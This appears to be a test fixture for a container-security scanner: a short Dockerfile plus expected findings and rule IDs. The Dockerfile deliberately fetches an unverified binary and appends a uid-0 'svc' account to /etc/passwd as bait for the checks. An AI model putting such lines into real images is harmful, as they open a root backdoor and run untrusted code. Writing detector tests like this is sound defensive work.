FROM debian:bookworm
RUN wget -P /opt/bin https://example.com/agent && chmod +x /opt/bin/agent
RUN echo 'svc:x:0:0::/root:/bin/sh' >> /etc/passwd
ENTRYPOINT ["/usr/bin/agent"]
# expect: base-image 1 medium "debian:bookworm"
# expect: download 2 high "to /opt/bin/agent: not verified"
# expect: privilege 3 high "writes /etc/passwd directly"
# expect: entrypoint 4 high "no instruction creates that path: line 2 wrote /opt/bin/agent"
# expect: privilege 0 medium "no USER"
# expect-count: 5
# expect-ids: VR102-e59f7b6cc5 VR301-08043c15b9 VR506-71b24dceaa VR401-0132cbc7cf VR503-518b203e19
